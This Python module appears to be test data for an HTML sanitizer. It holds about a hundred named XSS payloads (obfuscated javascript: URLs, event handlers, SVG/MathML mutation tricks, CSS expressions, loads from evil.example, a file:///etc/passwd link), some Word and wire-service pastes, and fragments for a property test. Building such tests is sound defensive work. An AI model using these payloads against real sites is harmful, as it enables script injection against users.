"""Hostile HTML for the sanitizer (ir_site.sanitize), as data.

Every payload must come out of every engine inert: see `assert_inert` in
tests/test_sanitize.py. `PASTES` are real-world pastes whose words must also
survive. `FRAGMENTS` are small pieces the property test glues together.
"""

from __future__ import annotations

ALERT = "alert(1)"

# (id, payload). Ids name the trick, for readable test ids.
HOSTILE: list[tuple[str, str]] = [
    # -- script and style elements
    ("script", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-nested-name", "<scr<script>ipt>alert(1)</script>"),
    ("script-split-end", "<script>alert(1)</scr ipt></script>"),
    ("script-unclosed", "<p>before<script>alert(1)"),
    ("script-double-lt", "<<script>alert(1)//<</script>"),
    ("script-in-attribute-context", '<p title="<script>alert(1)</script>">x</p>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-expression", "<style>p { width: expression(alert(1)) }</style><p>x</p>"),
    # -- event handlers
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>text</body>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("a-onclick", '<a href="/ok/" onclick="alert(1)">x</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    # -- javascript: and friends in URLs
    ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("href-javascript-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href-javascript-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("href-javascript-entity-dec", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("href-javascript-entity-hex", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    (
        "href-javascript-entity-nosemi",
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    ),
    ("href-javascript-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("href-javascript-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("href-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("href-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("href-javascript-newline-entity", '<a href="java&#10;script:alert(1)">x</a>'),
    ("href-javascript-nul", '<a href="java\x00script:alert(1)">x</a>'),
    ("href-javascript-zwsp-before-colon", '<a href="javascript\u200b:alert(1)">x</a>'),
    ("href-javascript-zwsp-inside", '<a href="java\u200bscript:alert(1)">x</a>'),
    ("href-javascript-bom", '<a href="\ufeffjavascript:alert(1)">x</a>'),
    ("href-javascript-soft-hyphen", '<a href="java\u00adscript:alert(1)">x</a>'),
    ("href-javascript-double-escaped", '<a href="&amp;#106;avascript:alert(1)">x</a>'),
    ("href-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("href-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("href-file", '<a href="file:///etc/passwd">x</a>'),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    ("img-src-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img-src-vbscript-upper", '<img src="VBSCRIPT:msgbox(1)">'),
    # -- formaction
    ("form-button-formaction", '<form><button formaction="javascript:alert(1)">go</button></form>'),
    ("input-formaction", '<input type="submit" formaction="javascript:alert(1)" value="go">'),
    ("button-formaction-alone", '<button formaction="javascript:alert(1)">go</button>'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    # -- SVG and MathML
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg-animate-href",
        '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    ),
    ("svg-foreignobject", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("svg-cdata-script", "<svg><script><![CDATA[alert(1)]]></script></svg>"),
    ("math-href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "math-mxss-closed",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ),
    ("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    # -- CSS
    ("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-attr-url-javascript", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-attr-behavior", '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#xss)">x</p>'),
    # -- embedding, navigation and document-level elements
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("object-param", '<object><param name="src" value="javascript:alert(1)"></object>'),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//"><a href="/x">x</a>'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=alert(1)></textarea>"),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp-breakout", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("select-breakout", "<select><option><img src=x onerror=alert(1)></option></select>"),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("isindex", '<isindex action="javascript:alert(1)" type=image>'),
    ("a-xlink-href", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("img-srcset", '<img srcset="javascript:alert(1) 1x" src="/ok.png">'),
    ("a-ping-target", '<a href="/x" ping="https://evil.example/" target="_blank">x</a>'),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
    # -- broken and unclosed markup
    ("unclosed-a-b", '<a href="x"><b>bold'),
    ("unclosed-p", "<p>unclosed"),
    ("unclosed-attribute", '<a href="/x onclick=alert(1)>x</a>'),
    ("unclosed-tag", "<img src=x onerror=alert(1)"),
    ("stray-end-tags", "</p></div></table>text</script>"),
    ("nested-a", '<a href="/1"><a href="javascript:alert(1)">x</a></a>'),
    ("table-foster", "<table><img src=x onerror=alert(1)><tr><td>x</td></tr></table>"),
    ("attribute-no-space", '<img src="x"onerror="alert(1)">'),
    ("backtick-attribute", "<img src=`x` onerror=`alert(1)`>"),
    ("null-in-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    # -- comments and CDATA
    ("comment-script", "<!--<script>alert(1)</script>-->"),
    ("comment-break", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("comment-conditional-ie", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", "<?xml-stylesheet href=javascript:alert(1)?><p>x</p>"),
]

# (id, payload, words that must survive). Word and wire-service pastes: formatting goes, text stays.
PASTES: list[tuple[str, str, str]] = [
    (
        "word-msonormal",
        "<p class=MsoNormal style='margin-bottom:0in;line-height:normal;mso-layout-grid-align:none'>"
        "<span lang=EN-US style='font-size:10.0pt;font-family:\"Arial\",sans-serif'>Revenue rose 12%"
        "<o:p></o:p></span></p>",
        "Revenue rose 12%",
    ),
    (
        "word-conditional-comment",
        "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->"
        "<p class=MsoNormal>Net income was $2,937,750.<o:p>&nbsp;</o:p></p>",
        "Net income was $2,937,750.",
    ),
    (
        "word-lists",
        "<p class=MsoListParagraphCxSpFirst style='text-indent:-.25in;mso-list:l0 level1 lfo1'>"
        "<![if !supportLists]><span style='font-family:Symbol'>\u00b7"
        "<span style='font:7.0pt \"Times New Roman\"'>"
        "&nbsp;&nbsp; </span></span><![endif]><span lang=EN-US>First point</span></p>",
        "First point",
    ),
    (
        "word-smart-quotes",
        "<p class=MsoNormal><span lang=EN-US>\u201cWe are pleased,\u201d said the CEO.</span></p>",
        "\u201cWe are pleased,\u201d said the CEO.",
    ),
    (
        "wire-prnewswire",
        "<p><font face=Arial size=2>WALTHAM, Mass.,&nbsp;Dec. 2, 2011 /PRNewswire/ -- Tecogen Inc. "
        "today announced&nbsp;a private placement of $2,937,750.</font></p>",
        "WALTHAM, Mass., Dec. 2, 2011 /PRNewswire/ -- Tecogen Inc. today announced a private placement of $2,937,750.",
    ),
    (
        "wire-businesswire",
        '<div class="bw-release-story"><p>BOSTON--(<a href="https://www.businesswire.com/" '
        'target="_blank" rel="nofollow">BUSINESS WIRE</a>)--Acme Widgets &amp; Co. reported results.</p>'
        '<p class="bwalignc">###</p></div>',
        "BOSTON--(BUSINESS WIRE)--Acme Widgets & Co. reported results.",
    ),
    (
        "wire-table",
        '<table border=1 cellpadding=0 style="border-collapse:collapse"><tr><td width=200 '
        "valign=top><p>Revenue</p></td><td align=right>$ 10,250</td></tr></table>",
        "Revenue",
    ),
]

# Small pieces for the property test to glue into new payloads.
FRAGMENTS: list[str] = [
    "<",
    ">",
    "</",
    "/>",
    '"',
    "'",
    "`",
    "=",
    " ",
    "\t",
    "\n",
    "\x00",
    "\u200b",
    "\ufeff",
    "&#",
    "&#x",
    "&amp;",
    "&lt;",
    ";",
    ":",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<a href=",
    "<img src=",
    " onerror=",
    " onload=",
    " style=",
    " formaction=",
    "javascript:",
    "java",
    "script",
    "vbscript:",
    "data:text/html,",
    ALERT,
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "<math>",
    "<mtext>",
    "<mglyph>",
    "<table>",
    "<td>",
    "<p>",
    "</p>",
    "<noscript>",
    "<textarea>",
    "<template>",
    "<iframe srcdoc=",
    "<form>",
    "<button ",
]
